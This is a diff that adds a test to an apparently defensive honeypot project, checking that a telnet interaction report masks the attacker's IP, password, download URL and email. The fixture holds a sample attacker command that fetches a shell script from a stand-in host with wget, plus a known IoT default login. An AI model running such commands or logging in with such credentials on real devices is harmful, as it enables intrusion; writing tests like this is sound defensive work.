@@ -79,3 +79,33 @@ test('sh runs scripts from the fake filesystem, depth-bounded', async () => {
   assert.ok(out.split('hello').length - 1 <= 6);
   assert.deepEqual([...new Set(executed)], ['/tmp/s']);
 });
+
+test('A-64: an interaction without a sample is reported desensitised and privacy-checked', async () => {
+  const { interactionReport } = await import('../../src/honeypot/report.js');
+  const { Pseudonymiser } = await import('../../src/dataset/index.js');
+  const p = new Pseudonymiser(Buffer.alloc(32, 7));
+  const rec = {
+    id: 'hp-1',
+    service: 'telnet',
+    peerIp: '203.0.113.50',
+    peerPort: 40000,
+    localPort: 23,
+    start: '2026-01-01T00:00:00Z',
+    credentials: [{ user: 'root', password: 'vizxv', accepted: true }],
+    commands: [
+      {
+        at: '2026-01-01T00:00:01Z',
+        line: 'wget http://198.51.100.9/x.sh; echo admin@victim.example.com',
+        route: 'emulator' as const,
+      },
+    ],
+    downloads: [{ url: 'http://198.51.100.9/x.sh', tool: 'wget', status: 'out-of-scope' as const }],
+    samples: [],
+    bytesIn: 10,
+    bytesOut: 20,
+  };
+  const text = JSON.stringify(interactionReport(rec, p));
+  for (const s of ['203.0.113.50', 'vizxv', '198.51.100.9', 'admin@victim.example.com'])
+    assert.ok(!text.includes(s), s);
+  assert.match(text, /"service":"telnet"/);
+});
